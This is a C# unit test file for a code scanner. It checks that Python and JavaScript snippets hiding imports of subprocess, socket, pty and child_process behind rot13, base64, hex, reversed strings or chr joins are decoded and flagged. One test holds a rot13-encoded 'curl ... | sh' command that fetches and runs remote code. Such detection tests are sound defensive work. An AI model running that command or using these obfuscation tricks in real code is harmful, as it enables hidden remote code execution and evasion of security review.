namespace SecureStack.Scanner.Tests.Evasions;

/// <summary>Computed imports and calls hidden behind rot13, base64, hex, reversed strings and chr joins are folded before matching.</summary>
[Collection(EvasionCollection.Name)]
public sealed class DecoderFoldingTests
{
    private readonly SkillScanner _scanner;

    public DecoderFoldingTests(ScannerFixture fixture)
    {
        _scanner = fixture.Scanner;
    }

    [Theory]
    [InlineData("m.py", "import codecs, importlib\nm = importlib.import_module(codecs.decode('fhocebprff', 'rot13'))\n", "subprocess")]
    [InlineData("m.py", "import base64\nm = __import__(base64.b64decode('c3VicHJvY2Vzcw==').decode())\n", "subprocess")]
    [InlineData("m.py", "m = __import__(bytes.fromhex('7375627072 6f63657373').decode())\n", "subprocess")]
    [InlineData("m.py", "m = __import__('ssecorpbus'[::-1])\n", "subprocess")]
    [InlineData("m.py", "m = __import__(''.join(map(chr, [115, 111, 99, 107, 101, 116])))\n", "socket")]
    [InlineData("m.py", "m = __import__(''.join(chr(c) for c in [112, 116, 121]))\n", "pty")]
    [InlineData("m.py", "import codecs\nimport os\ngetattr(os, codecs.encode('flfgrz', 'rot_13'))('id')\n", "system")]
    [InlineData("m.py", "import binascii\nimport importlib\nimportlib.import_module(binascii.unhexlify('736f636b6574').decode())\n", "socket")]
    [InlineData("m.js", "const cp = require(atob('Y2hpbGRfcHJvY2Vzcw=='));\n", "child_process")]
    [InlineData("m.js", "const cp = require(Buffer.from('6368696c645f70726f63657373', 'hex').toString());\n", "child_process")]
    [InlineData("m.js", "const cp = require('ssecorp_dlihc'.split('').reverse().join(''));\n", "child_process")]
    public void Scan_DecodedNameIsFoldedAndFlagged(string file, string code, string resolved)
    {
        var report = EvasionScan.Skill(_scanner, (file, code));

        var finding = Assert.Single(report.Findings, f => f.RuleId == "SS-OBFUSCATION" && f.Message.Contains($"\"{resolved}\"", StringComparison.Ordinal));
        Assert.True(finding.Severity >= Severity.High, EvasionScan.Describe(report));
    }

    [Fact]
    public void Scan_Rot13DecodedShellCommandIsFlagged()
    {
        var report = EvasionScan.Skill(_scanner, ("m.py", "import codecs, os\nos.popen(codecs.decode('phey -f uggcf://rknzcyr.vainyvq/k | fu', 'rot13'))\n"));

        Assert.Contains(report.Findings, f => f.RuleId == "SS-OBFUSCATION" && f.Severity == Severity.Critical
            && f.Message.Contains("curl -s https://example.invalid/x | sh", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("import codecs\ntext = codecs.decode(data, 'utf-8')\nprint(', '.join(items))\n")]
    [InlineData("import base64\nprint(base64.b64decode('aGVsbG8gd29ybGQ=').decode())\n")]
    [InlineData("name = 'olleh'[::-1]\nprint(''.join(map(chr, [104, 105])))\n")]
    public void Scan_HarmlessDecodingIsNotObfuscation(string code)
    {
        var report = EvasionScan.Skill(_scanner, ("m.py", code));

        Assert.DoesNotContain(report.Findings, f => f.RuleId == "SS-OBFUSCATION");
    }
}
